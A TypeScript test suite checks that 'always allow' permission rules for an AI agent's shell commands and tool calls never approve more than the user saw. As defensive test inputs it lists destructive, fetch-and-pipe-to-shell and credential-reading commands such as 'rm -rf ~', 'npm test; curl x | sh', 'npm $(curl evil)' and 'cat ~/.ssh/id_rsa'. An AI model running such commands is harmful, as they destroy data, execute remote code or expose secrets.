import assert from 'node:assert/strict';
import {
  allowOption,
  createRule,
  describeRule,
  loadRules,
  optionPresentation,
  requestFacet,
  ruleCandidates,
  ruleMatches,
  ruleOffer,
  type PermissionRule,
  type RuleCandidate,
  type RuleScope,
} from '../../../src/consent/permissionRules';
import type { PermissionOption, PermissionRequest, ToolCallFields } from '../../../src/protocol/domain';

const CWD = '/work/project';
const cmd = (command: string, cwd = CWD): PermissionRequest => ({ sessionId: 's', title: 'Run', subject: { type: 'command', command, cwd }, options: [] });
const tool = (fields: ToolCallFields): PermissionRequest => ({
  sessionId: 's',
  title: 'Tool',
  subject: { type: 'tool_call', toolCallId: 't', fields },
  options: [],
});
const rule = (c: RuleCandidate, agentId = 'a'): PermissionRule => createRule(agentId, c, 1);

/** Every rule the user could create from `first` ("always allow"), narrow and wider. */
const rulesFrom = (first: PermissionRequest): PermissionRule[] => ruleCandidates(first).map((c) => rule(c));
/** Whether any rule the user could create from `first` would approve `later` without asking. */
const anyApproves = (first: PermissionRequest, later: PermissionRequest): boolean => rulesFrom(first).some((r) => ruleMatches(r, 'a', later));

describe('permission rules — issue 12 examples (a rule never allows more than the user saw)', () => {
  it('"always allow" of `rm -i tmp.txt` never approves `rm -rf ~` (nor any other rm)', () => {
    const first = cmd('rm -i tmp.txt');
    assert.deepEqual(
      ruleCandidates(first).map((c) => c.breadth),
      ['narrow'],
      'rm is never widened',
    );
    for (const later of ['rm -rf ~', 'rm -rf /', 'rm -rf .', 'rm -i other.txt', 'rm -i tmp.txt -rf', 'rm tmp.txt', 'rm']) {
      assert.equal(anyApproves(first, cmd(later)), false, later);
    }
    assert.equal(anyApproves(first, cmd('rm -i tmp.txt')), true, 'the exact command again is covered');
    assert.equal(anyApproves(first, cmd("rm  -i 'tmp.txt'")), true, 'the same words, quoted differently');
    assert.equal(anyApproves(first, cmd('rm -i tmp.txt', '/elsewhere')), false, 'not in another folder');
  });

  it('`env CI=1 npm test` covers only itself, never `env` with anything', () => {
    const first = cmd('env CI=1 npm test');
    assert.deepEqual(
      ruleCandidates(first).map((c) => c.breadth),
      ['narrow'],
    );
    for (const later of ['env rm -rf ~', 'env CI=1 npm publish', 'env CI=1 npm test --watch', 'env', 'env CI=0 npm test']) {
      assert.equal(anyApproves(first, cmd(later)), false, later);
    }
  });

  it('`sudo -n true` gets no rule at all, and nothing covers another sudo', () => {
    const offer = ruleOffer(cmd('sudo -n true'));
    assert.deepEqual(offer.candidates, []);
    assert.match(offer.reason!, /another user/);
    for (const line of ['doas ls', '/usr/bin/sudo ls', 'env sudo ls', 'bash -c "sudo rm -rf /"', 'pkexec id', 'su -c id', 'X=1 sudo ls']) {
      assert.deepEqual(ruleCandidates(cmd(line)), [], line);
    }
    // Even a tampered stored rule for the exact line never matches.
    const forged = createRule('a', { type: 'commandExact', words: ['sudo', '-n', 'true'], cwd: CWD }, 0);
    assert.equal(ruleMatches(forged, 'a', cmd('sudo -n true')), false);
  });

  it('`bash -lc "npm test"` covers only that exact script', () => {
    const first = cmd('bash -lc "npm test"');
    assert.deepEqual(
      ruleCandidates(first).map((c) => c.breadth),
      ['narrow'],
    );
    assert.equal(anyApproves(first, cmd("bash -lc 'npm test'")), true);
    for (const later of ['bash -lc "rm -rf ~"', 'bash', 'bash -lc "npm test; rm -rf ~"', 'bash -c "npm test"', 'sh -lc "npm test"']) {
      assert.equal(anyApproves(first, cmd(later)), false, later);
    }
  });

  it('`git log --oneline` widens only to read-only options: never `--output`, `--ext-diff` or `-c`', () => {
    const c = ruleCandidates(cmd('git log --oneline'));
    assert.deepEqual(
      c.map((x) => x.breadth),
      ['narrow', 'wider'],
    );
    const [narrow, wider] = c.map((x) => rule(x));
    assert.equal(ruleMatches(wider!, 'a', cmd('git log --oneline -n 5 main -- src')), true);
    assert.equal(ruleMatches(narrow!, 'a', cmd('git log --oneline -n 5')), false, 'the narrow form is exact');
    for (const later of [
      'git log --output=/tmp/x',
      'git log --output /tmp/x',
      'git log --out=/tmp/x',
      'git log --ext-diff -p',
      'git -c core.pager=sh log',
      'git log -- /etc/passwd',
      'git log ../other',
      'git log --oneline; rm -rf ~',
      'git push',
      'git log --exec=x',
      'GIT_PAGER=sh git log',
      'git log ~/x',
    ]) {
      assert.equal(anyApproves(cmd('git log --oneline'), cmd(later)), false, later);
    }
    assert.match(c[1]!.description, /^Runs `git log` in \/work\/project with only these options/);
    assert.ok(!c[1]!.description.includes('--output'));
  });

  it('`git diff` never covers an implicit --no-index read outside the folder', () => {
    const wider = rule(ruleCandidates(cmd('git diff'))[1]!);
    assert.equal(ruleMatches(wider, 'a', cmd('git diff --stat HEAD~1')), true);
    for (const later of ['git diff /etc/passwd /dev/null', 'git diff --no-index a b', 'git diff ../../x', 'git diff --output=x', 'git diff -O/etc/passwd']) {
      assert.equal(ruleMatches(wider, 'a', cmd(later)), false, later);
    }
    const branch = rule(ruleCandidates(cmd('git branch -a'))[1]!);
    assert.equal(ruleMatches(branch, 'a', cmd('git branch --show-current')), true);
    for (const later of ['git branch new-branch', 'git branch -D main', 'git branch -m x']) assert.equal(ruleMatches(branch, 'a', cmd(later)), false, later);
  });

  it('no rule at all for a switch_mode call (leaving plan mode is always asked), and a stored one never matches', () => {
    const req = tool({ kind: 'switch_mode', title: 'Approve Plan', rawInput: { plan: '# Plan' } });
    const offer = ruleOffer(req);
    assert.deepEqual(offer.candidates, []);
    assert.match(offer.reason ?? '', /plan mode/);
    const scopes: RuleScope[] = [
      { type: 'toolCall', kind: 'switch_mode', title: 'Approve Plan', paths: [], input: '{"plan":"# Plan"}' },
      { type: 'toolKind', kind: 'switch_mode' },
    ];
    for (const scope of scopes) {
      assert.equal(ruleMatches(createRule('a', scope, 0), 'a', req), false, scope.type);
    }
  });

  it('no kind-wide rule for kinds that change anything (edit, execute, delete, move, fetch, unknown)', () => {
    for (const kind of ['edit', 'execute', 'delete', 'move', 'fetch', 'other', 'teleport']) {
      const req = tool({ kind, title: `${kind} it`, locations: [{ path: '/work/project/a.ts' }], rawInput: { x: 1 } });
      const c = ruleCandidates(req);
      assert.deepEqual(
        c.map((x) => x.breadth),
        ['narrow'],
        kind,
      );
      assert.ok(
        c.every((x) => x.scope.type !== 'toolKind'),
        kind,
      );
      const r = rule(c[0]!);
      assert.equal(
        ruleMatches(r, 'a', tool({ kind, title: `${kind} it`, locations: [{ path: '/etc/passwd' }], rawInput: { x: 1 } })),
        false,
        `${kind}: another file`,
      );
    }
    // A stored kind-wide rule for `edit` or `execute` never matches.
    for (const kind of ['edit', 'execute']) {
      const forged = createRule('a', { type: 'toolKind', kind }, 0);
      assert.equal(ruleMatches(forged, 'a', tool({ kind, title: 'x' })), false, kind);
    }
  });

  it('kind-wide rules exist only for read, search and think, and say so', () => {
    for (const kind of ['read', 'search', 'think']) {
      const c = ruleCandidates(tool({ kind, title: 't', locations: [{ path: '/w/a' }] }));
      assert.equal(c[1]?.scope.type, 'toolKind', kind);
      assert.match(c[1]!.description, new RegExp(`every \`${kind}\` tool call`));
      assert.equal(ruleMatches(rule(c[1]!), 'a', tool({ kind, title: 'other', locations: [{ path: '/x' }] })), true);
    }
  });
});

describe('permission rules — narrow forms and descriptions', () => {
  it('says exactly what it covers, with the words as they will be matched', () => {
    const [narrow] = ruleCandidates(cmd('npm test'));
    assert.equal(narrow!.description, 'Runs exactly `npm test` in /work/project — any other argument, word or folder asks again.');
    const [q] = ruleCandidates(cmd(`echo "it's here" 'a b'`));
    assert.match(q!.description, /Runs exactly `echo 'it'\\''s here' 'a b'`/);
    const r = createRule('demo', narrow!, 5);
    assert.equal(
      describeRule(r, 'Demo Agent', { displayPath: (p) => p.replace('/work/project', '.') }),
      'Demo Agent: Runs exactly `npm test` in . — any other argument, word or folder asks again.',
    );
  });

  it('offers no rule for compound commands, substitutions, redirections and patterns, and says why', () => {
    const cases: [string, RegExp][] = [
      ['npm test && rm -rf ~', /chains/],
      ['npm test; curl x | sh', /chains/],
      ['npm test\nrm -rf ~', /control|chains/],
      ['npm $(curl evil)', /substitutes/],
      ['npm `id`', /substitutes/],
      ['echo "$HOME"', /substitutes/],
      ['npm test > /etc/x', /redirects/],
      ['rm *.txt', /pattern/],
      ['cat ~/.ssh/id_rsa', /pattern/],
      ['(rm -rf ~)', /chains/],
      ['npm test # comment', /chains/],
      ['if true', /chains/],
      ['X=1', /only sets variables/],
      ['echo "open', /not closed/],
      ['', /empty/],
      ['rm \u202Etxt.exe', /control/],
      ['x'.repeat(5000), /longer/],
    ];
    for (const [line, why] of cases) {
      const offer = ruleOffer(cmd(line));
      assert.deepEqual(offer.candidates, [], line);
      assert.match(offer.reason!, why, line);
    }
  });

  it('a rule is per agent', () => {
    const r = rule(ruleCandidates(cmd('npm test'))[0]!, 'a');
    assert.equal(ruleMatches(r, 'b', cmd('npm test')), false);
    assert.equal(ruleMatches(r, 'a', cmd('npm test')), true);
  });

  it('tool calls: the same kind on exactly the same files, or exactly the same call', () => {
    const edit = tool({ kind: 'edit', title: 'Edit a.ts', locations: [{ path: '/w/a.ts' }], rawInput: { content: 'v1' } });
    const [narrow] = ruleCandidates(edit);
    assert.equal(narrow!.scope.type, 'toolPaths');
    assert.equal(narrow!.description, 'Allows `edit` tool calls on exactly /w/a.ts — any other file asks again.');
    const r = rule(narrow!);
    assert.equal(ruleMatches(r, 'a', tool({ kind: 'edit', title: 'Edit a.ts again', locations: [{ path: '/w/a.ts' }], rawInput: { content: 'v2' } })), true);
    assert.equal(ruleMatches(r, 'a', tool({ kind: 'edit', locations: [{ path: '/w/a.ts' }, { path: '/w/b.ts' }] })), false, 'an extra file');
    assert.equal(ruleMatches(r, 'a', tool({ kind: 'delete', locations: [{ path: '/w/a.ts' }] })), false, 'another kind');
    const viaDiff = tool({
      kind: 'edit',
      locations: [{ path: '/w/a.ts' }],
      content: [{ type: 'diff', changes: [{ operation: 'modify', path: '/w/.git/hooks/pre-commit' }] }],
    });
    assert.equal(ruleMatches(r, 'a', viaDiff), false, 'a file named only in the diff counts');

    const exec = tool({ kind: 'execute', title: 'npm test', rawInput: { command: 'npm test' } });
    const e = rule(ruleCandidates(exec)[0]!);
    assert.equal(e.type, 'toolCall');
    assert.equal(ruleMatches(e, 'a', tool({ kind: 'execute', title: 'npm test', rawInput: { command: 'npm test' } })), true);
    assert.equal(ruleMatches(e, 'a', tool({ kind: 'execute', title: 'npm test', rawInput: { command: 'rm -rf ~' } })), false, 'same title, other input');
    assert.equal(ruleMatches(e, 'a', tool({ kind: 'execute', title: 'npm test' })), false, 'input missing');
  });

  it('offers no rule when a tool call says nothing a rule could match on', () => {
    assert.match(ruleOffer(tool({ title: 'x' })).reason!, /what kind of tool/);
    assert.match(ruleOffer(tool({ kind: 'execute' })).reason!, /no title, input or files/);
    assert.match(ruleOffer({ sessionId: 's', title: 't', options: [] }).reason!, /does not say/);
    assert.match(ruleOffer({ sessionId: 's', title: 't', options: [], subject: { type: 'unknown', rawType: 'x', raw: {} } }).reason!, /does not know/);
    let deep: unknown = 1;
    for (let i = 0; i < 100; i++) deep = [deep];
    assert.match(ruleOffer(tool({ kind: 'execute', title: 't', rawInput: deep })).reason!, /too large or too deep/);
    assert.match(ruleOffer(tool({ kind: 'execute', title: 't', rawInput: 'x'.repeat(20000) })).reason!, /too large/);
  });

  it('requestFacet (transitional, for the current broker) is the narrow form', () => {
    const f = requestFacet(cmd('npm test'));
    assert.equal(f?.type, 'commandExact');
    assert.deepEqual(f?.type === 'commandExact' && f.words, ['npm', 'test']);
    assert.equal(requestFacet(cmd('npm test && curl x | sh')), undefined);
  });
});

describe('permission rules — stored rules of format version 1', () => {
  const v1 = (type: string, value: string): unknown => ({ agentId: 'a', type, value, createdAt: 7 });

  it('an old single-program prefix (`rm`, `env`, `sudo`, `bash`) is removed, with a note', () => {
    const { rules, notes } = loadRules(['rm', 'env', 'sudo', 'bash', 'npm'].map((p) => v1('commandPrefix', p)));
    assert.deepEqual(rules, []);
    assert.equal(notes.length, 5);
    assert.match(notes[0]!, /Removed the old rule a: commandPrefix "rm": it approved every command starting with "rm"/);
  });

  it('old stored rules never match as they are', () => {
    const old = v1('commandPrefix', 'rm') as PermissionRule;
    assert.equal(ruleMatches(old, 'a', cmd('rm -rf ~')), false);
    assert.match(describeRule(old, 'Agent'), /old rule "commandPrefix rm" — no longer applied/);
    assert.equal(ruleMatches(v1('toolKind', 'edit') as PermissionRule, 'a', tool({ kind: 'edit', title: 't' })), false);
  });

  it('a two-word prefix becomes the exact command or the read-only form; kinds that change things are removed', () => {
    const { rules, notes } = loadRules([
      v1('commandPrefix', 'npm test'),
      v1('commandPrefix', 'git status'),
      v1('toolKind', 'edit'),
      v1('toolKind', 'read'),
      v1('commandPrefix', 'sudo ls'),
    ]);
    assert.deepEqual(
      rules.map((r) => r.type),
      ['commandExact', 'commandReadOnly', 'toolKind'],
    );
    const [npm, git] = rules;
    assert.equal(ruleMatches(npm!, 'a', cmd('npm test', '/any/folder')), true, 'old rules had no folder');
    assert.equal(ruleMatches(npm!, 'a', cmd('npm test --script-shell=/tmp/evil')), false, 'but no longer any further argument');
    assert.equal(ruleMatches(git!, 'a', cmd('git status --short')), true);
    assert.equal(ruleMatches(git!, 'a', cmd('git status; rm -rf ~')), false);
    assert.match(describeRule(npm!, 'A'), /exactly `npm test` in any folder/);
    assert.equal(notes.length, 5);
    assert.ok(notes.some((n) => /toolKind "edit".*asked again/.test(n)));
    assert.equal(rules[0]!.createdAt, 7);
  });

  it('never throws on a tampered stored rule that bypassed loadRules', () => {
    for (const bad of [
      null,
      5,
      { version: 2, agentId: 'a', type: 'commandExact', words: 'rm', cwd: null },
      { version: 2, agentId: 'a', type: 'toolPaths', kind: 'edit', paths: null },
    ]) {
      const r = bad as unknown as PermissionRule;
      assert.equal(ruleMatches(r, 'a', cmd('rm')), false);
      assert.equal(ruleMatches(r, 'a', tool({ kind: 'edit', locations: [{ path: '/w/a' }] })), false);
      assert.match(describeRule(r, 'A'), /^A: /);
    }
  });

  it('reads hostile or future stored values safely', () => {
    assert.deepEqual(loadRules(undefined), { rules: [], foreign: [], notes: [] });
    assert.match(loadRules({}).notes[0]!, /not a list/);
    const future = { version: 3, agentId: 'a', type: 'quantum', value: 'x', createdAt: 0 };
    const r = loadRules([null, 1, 'x', { agentId: 5 }, future, { version: 2, agentId: 'a', type: 'commandExact', words: 'rm', cwd: null }]);
    assert.deepEqual(r.rules, []);
    assert.deepEqual(r.foreign, [future], 'a newer format is kept for writing back');
    const many = Array.from({ length: 2000 }, (_, i) => createRule('a', { type: 'commandExact', words: ['echo', String(i)], cwd: null }, 0));
    const loaded = loadRules(many);
    assert.equal(loaded.rules.length, 500);
    assert.ok(loaded.notes.some((n) => /More than 500/.test(n)));
    const round = loadRules(JSON.parse(JSON.stringify([createRule('a', ruleCandidates(cmd('git log --oneline'))[1]!, 3)])));
    assert.equal(round.rules.length, 1);
    assert.equal(ruleMatches(round.rules[0]!, 'a', cmd('git log -5')), true);
  });
});

describe('allowOption — what a rule may answer with', () => {
  const o = (optionId: string, name: string, kind: string): PermissionOption => ({ optionId, name, kind });
  it('picks allow_once first, else allow_always; never a reject, a contradicting name or a shared id', () => {
    assert.equal(allowOption([o('no', 'Reject', 'reject_once'), o('yes', 'Allow', 'allow_once'), o('al', 'Always', 'allow_always')])?.optionId, 'yes');
    assert.equal(allowOption([o('al', 'Always allow', 'allow_always'), o('r', 'No', 'reject_once')])?.optionId, 'al');
    assert.equal(allowOption([o('r', 'No', 'reject_once')]), undefined);
    assert.equal(allowOption([o('x', 'Reject', 'allow_once')]), undefined, 'a name that contradicts its kind');
    assert.equal(allowOption([o('x', 'Allow', 'allow_once'), o('x', 'Deny', 'reject_once')]), undefined, 'a shared id');
    assert.equal(allowOption([o('x', 'Do it', 'allow_maybe')]), undefined, 'an unknown kind');
  });

  it('"Reject" with kind allow_always can never create a rule', () => {
    const [v] = optionPresentation([o('r', 'Reject', 'allow_always')]);
    assert.equal(v!.mayCreateRule, false);
    assert.equal(v!.label, 'Always allow — "Reject" ⚠ name contradicts kind');
  });
});
